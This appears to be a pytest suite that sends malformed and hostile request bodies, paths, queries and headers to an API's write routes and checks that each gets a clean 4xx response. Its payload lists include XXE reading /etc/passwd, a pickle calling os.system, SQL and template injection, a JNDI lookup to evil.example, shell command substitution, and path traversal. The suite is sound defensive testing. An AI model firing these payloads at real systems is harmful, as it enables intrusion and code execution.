"""Fifty kinds of bad input to every route that writes: a 4xx with a problem that says what is wrong, never a 5xx."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import select
from tests.server.client import Client
from tests.server.writes import WITHOUT_KEY, WRITES, Sample

from evenhand.registry.identity import Role
from evenhand.registry.tables import audit
from evenhand.server.openapi import operations

JSON = {"Content-Type": "application/json"}
SAFE = {"GET", "HEAD", "OPTIONS"}


def raw(content: bytes) -> Callable[[dict[str, Any]], bytes]:
    """Send these bytes, whatever would be right."""
    return lambda _: content


def added(name: str, value: Any) -> Callable[[dict[str, Any]], bytes]:
    """Send the right body with one more field."""
    return lambda body: json.dumps({**body, name: value}).encode()


def spoiled(literal: str) -> Callable[[dict[str, Any]], bytes]:
    """Send the right body with this JSON in place of every field's value."""
    return lambda body: ("{" + ",".join(f"{json.dumps(name)}:{literal}" for name in body) + "}").encode()


def cut(body: dict[str, Any]) -> bytes:
    return json.dumps(body).encode()[:-1]


def doubled(body: dict[str, Any]) -> bytes:
    return b"{" + b",".join([json.dumps(body).encode()[1:-1]] * 2) + b"}"


BAD: dict[str, Callable[[dict[str, Any]], bytes]] = {
    # not JSON
    "cut off": cut,
    "only a bracket": raw(b"{"),
    "trailing comma": raw(b'{"name": "x",}'),
    "single quotes": raw(b"{'name': 'x'}"),
    "comment": raw(b'{"name": /* x */ 1}'),
    "two values": raw(b"{} {}"),
    "plain words": raw(b"hello"),
    "XML with an entity": raw(b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    "not UTF-8": raw(b'{"name": "\xff\xfe"}'),
    "UTF-16": raw('{"name": "x"}'.encode("utf-16")),
    "NUL bytes": raw(b"\x00" * 64),
    "a pickle": raw(b"\x80\x04\x95\x0c\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94."),
    "gzip": raw(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xabV\xcaK\xccMU\xb2R\xaaP\xaa\x05\x00"),
    # JSON of another shape
    "nothing": raw(b""),
    "null": raw(b"null"),
    "true": raw(b"true"),
    "a number": raw(b"7"),
    "a text": raw(b'"name"'),
    "a list": raw(b"[]"),
    "a list of it": lambda body: json.dumps([body]).encode(),
    # depth and size
    "nested lists": raw(b"[" * 100_000 + b"]" * 100_000),
    "nested objects": raw(b'{"a":' * 50_000 + b"1" + b"}" * 50_000),
    "nested and not closed": raw(b"[" * 200_000),
    "nested in a field": lambda body: json.dumps(body).encode()[:-1] + b', "x": ' + b"[" * 40 + b"]" * 40 + b"}",
    "long text in every field": lambda body: json.dumps(dict.fromkeys(body, "x" * 300_000)).encode(),
    "many fields": lambda body: json.dumps({**body, **{f"f{n}": n for n in range(20_000)}}).encode(),
    "too many bytes": raw(b'{"name": "' + b"x" * 1_100_000 + b'"}'),
    "long name of a field": added("x" * 100_000, 1),
    # numbers
    "NaN": spoiled("NaN"),
    "infinity": spoiled("Infinity"),
    "minus infinity": spoiled("-Infinity"),
    "beyond float64": spoiled("1e999"),
    "whole number beyond float64": spoiled("9" * 400),
    "whole number of 10,000 digits": spoiled("9" * 10_000),
    "whole number beyond 64 bits": spoiled("18446744073709551616"),
    "negative number": spoiled("-1"),
    "minus zero": spoiled("-0.0"),
    # wrong types and texts
    "null in every field": lambda body: json.dumps({**dict.fromkeys(body, None), "x": None}).encode(),
    "booleans": spoiled("true"),
    "empty objects": spoiled("{}"),
    "empty lists": spoiled("[]"),
    "empty texts": spoiled('""'),
    "lists of numbers": spoiled("[1, 2]"),
    "SQL in a list": spoiled('["\' OR 1=1 --"]'),
    "NUL in a text": spoiled('"a\\u0000b"'),
    "half a surrogate pair": spoiled('"\\ud800"'),
    "line breaks": spoiled('"a\\r\\nSet-Cookie: evenhand=evil"'),
    "text that runs backwards": spoiled('"\\u202egnp.exe"'),
    # names of fields
    "unknown field": added("rolse", ["administrator"]),
    "a field of the class": added("__class__", {"__init__": {"__globals__": {}}}),
    "a field of the prototype": added("__proto__", {"roles": ["administrator"]}),
    "doubled field": doubled,
}


def test_fifty_kinds_are_tried() -> None:
    assert len(BAD) + len(CODE) >= 60


def test_every_route_that_writes_has_a_sample(app: FastAPI) -> None:
    found = {(o.method, o.path) for o in operations(app) if o.method not in SAFE and o.path.startswith("/v1/")}
    assert found == set(WRITES)


@pytest.fixture
def sent(keys: dict[Role, str], connect: Callable[..., Client]) -> Callable[..., httpx.Response]:
    """Send a sample with another body."""
    clients: dict[Role | None, Client] = {}

    def send(method: str, sample: Sample, content: bytes, **headers: str) -> httpx.Response:
        if sample.role not in clients:
            clients[sample.role] = connect(keys[sample.role] if sample.role else None)
        return clients[sample.role].request(method, sample.url, content=content, headers=JSON | headers)

    return send


def check_problem(answer: httpx.Response, said: object) -> None:
    """Hold that an answer is a problem that a client can mend, and tells nothing of the inside."""
    assert 400 <= answer.status_code < 500, (said, answer.status_code, answer.text[:500])
    assert answer.headers["content-type"] == "application/problem+json", said
    problem = answer.json()
    assert problem["status"] == answer.status_code
    assert problem["type"].startswith("urn:evenhand:problem:")
    assert problem["detail"]
    assert problem["instance"] == f"urn:evenhand:request:{answer.headers['x-request-id']}"
    for inside in ("Traceback", "sqlalchemy", "sqlite", "psycopg", "pydantic", "site-packages", "evenhand."):
        assert inside not in answer.text, (said, inside)
    assert len(answer.content) < 20_000, said


@pytest.mark.parametrize("kind", BAD)
def test_bad_input_gets_a_problem_and_changes_nothing(
    kind: str, app: FastAPI, sent: Callable[..., httpx.Response]
) -> None:
    before = audit_rows(app)
    for (method, template), sample in WRITES.items():
        if sample.body is None:
            continue  # a route without a body reads none: see the next test
        check_problem(sent(method, sample, BAD[kind](sample.body)), (kind, method, template))
    assert audit_rows(app) == before


# Texts that are code elsewhere. Where a text is free they are texts like any other, and come back as they were sent.
CODE = {
    "SQL injection": "'; DROP TABLE users; --",
    "SQL injection of a number": "1 OR 1=1",
    "template injection": "{{ 7 * 7 }}${7*7}<%= 7*7 %>",
    "log injection": "${jndi:ldap://evil.example/a}",
    "markup": "<script>alert(1)</script>",
    "path out of the folder": "../../../../etc/passwd",
    "path of Windows": "..\\..\\windows\\system32",
    "shell": "$(touch /tmp/pwned); `id`",
    "formula of a spreadsheet": "=cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("kind", CODE)
def test_code_in_a_text_is_refused_or_kept_as_text(kind: str, sent: Callable[..., httpx.Response]) -> None:
    for (method, template), sample in WRITES.items():
        for name in sample.body or ():
            answer = sent(method, sample, json.dumps({**(sample.body or {}), name: CODE[kind]}).encode())
            if answer.is_success and answer.content:
                assert CODE[kind] in json.dumps(answer.json(), ensure_ascii=False).replace("\\\\", "\\"), (kind, name)
            elif not answer.is_success:
                check_problem(answer, (kind, method, template, name))


def audit_rows(app: FastAPI) -> int:
    with app.state.deps.database.reading() as connection:
        return len(connection.execute(select(audit.c.sequence)).all())


def test_a_route_without_a_body_is_not_hurt_by_one(sent: Callable[..., httpx.Response]) -> None:
    for (method, template), sample in WRITES.items():
        if sample.body is None:
            for kind, make in BAD.items():
                assert sent(method, sample, make({"name": "x"})).status_code < 500, (kind, template)


@pytest.mark.parametrize(
    "content_type", ["", "text/plain", "application/xml", "multipart/form-data", "image/png", "a/b/c;;="]
)
def test_other_content_than_json_is_refused(content_type: str, sent: Callable[..., httpx.Response]) -> None:
    for (method, template), sample in WRITES.items():
        if sample.body is not None:
            content = json.dumps(sample.body).encode()
            check_problem(sent(method, sample, content, **{"Content-Type": content_type}), (content_type, template))


PATHS = [
    "%00", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%ff%fe", "'%20OR%201=1--", "%7B%7B7*7%7D%7D", "a" * 3_000, "9" * 400,
    "-1", "%E2%80%AE", "%0d%0aSet-Cookie:evil", "..%5c..%5cwindows", "CON", "*", "%25%30%30", "💥",
]  # fmt: skip


@pytest.mark.parametrize("part", PATHS, ids=range(len(PATHS)))
def test_odd_parts_of_an_address_get_a_problem(part: str, app: FastAPI, admin: Client) -> None:
    for operation in operations(app):
        if "{" in operation.path:
            url = operation.path.partition("{")[0] + part + operation.path.partition("}")[2]
            body = {"json": WRITES[operation.method, operation.path].body} if operation.has_body else {}
            check_problem(admin.request(operation.method, url, **body), (operation, part))


QUERIES = [
    "limit=0", "limit=-1", "limit=501", "limit=1e3", "limit=9999999999999999999999", "limit=NaN", "limit=", "limit=x",
    "limit=%00", "after=%00", "after=" + "a" * 5_000, "limit=1&limit=x",
]  # fmt: skip


@pytest.mark.parametrize("query", QUERIES)
def test_odd_queries_get_a_problem(query: str, admin: Client) -> None:
    for url in ("/v1/users", "/v1/keys"):
        check_problem(admin.get(f"{url}?{query}"), query)


@pytest.mark.parametrize("query", ["after=' OR 1=1 --", "after=%ff", "after=zzz", "unknown=1", "limit=1&limit=2"])
def test_queries_that_find_nothing_harm_nothing(query: str, admin: Client) -> None:
    assert admin.get(f"/v1/users?{query}").status_code == 200


@pytest.mark.parametrize("key", ["", " ", "a b", "é".encode(), "x" * 201, "a\tb"])
def test_an_odd_idempotency_key_is_refused(key: str | bytes, admin: Client) -> None:
    for (method, template), sample in WRITES.items():
        if (method, template) not in WITHOUT_KEY:
            body = {} if sample.body is None else {"json": sample.body}
            check_problem(admin.request(method, sample.url, headers={"Idempotency-Key": key}, **body), (key, template))


@pytest.mark.parametrize("tag", ["", "3", '"', '"x', "W/", "é".encode(), "x" * 5_000])
def test_an_odd_if_match_is_refused(tag: str | bytes, admin: Client) -> None:
    answer = admin.patch("/v1/users/auditor", json={"display": "x"}, headers={"If-Match": tag})
    check_problem(answer, tag)


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "BREW"])
def test_another_method_is_refused_and_the_right_ones_are_named(method: str, admin: Client) -> None:
    answer = admin.request(method, "/v1/users")
    check_problem(answer, method)
    assert answer.status_code == 405
    assert set(answer.headers["allow"].split(", ")) <= {"GET", "POST"}
